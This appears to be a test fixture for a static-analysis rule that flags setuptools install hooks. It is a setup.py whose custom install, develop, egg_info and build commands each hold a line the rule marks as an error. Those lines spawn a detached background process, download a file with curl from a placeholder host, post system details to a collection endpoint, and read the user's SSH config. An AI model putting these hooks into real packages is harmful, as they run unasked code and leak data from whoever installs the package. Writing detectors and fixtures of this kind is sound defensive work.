"""Installers that do more than install."""

import os
import subprocess
import sys
from pathlib import Path

import requests
from setuptools import setup
from setuptools.command.build_py import build_py
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        subprocess.Popen([sys.executable, "-m", "example.agent"], start_new_session=True)
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook: error


class Develop(develop):
    def run(self):
        os.system("curl -s https://files.example.invalid/hook -o /tmp/hook")
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook: error
        develop.run(self)


class EggInfo(egg_info):
    def run(self):
        requests.post("https://collect.example.invalid/installed", json={"version": sys.version})
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook: error
        egg_info.run(self)


class Build(build_py):
    def run(self):
        (Path.home() / ".ssh" / "config").read_text()
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook: error
        subprocess.call(["python", "-c", "import urllib.request; urllib.request.urlopen('https://files.example.invalid/x')"])
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-hook: error
        build_py.run(self)


setup(name="example", cmdclass={"install": Install, "develop": Develop, "egg_info": EggInfo, "build_py": Build})
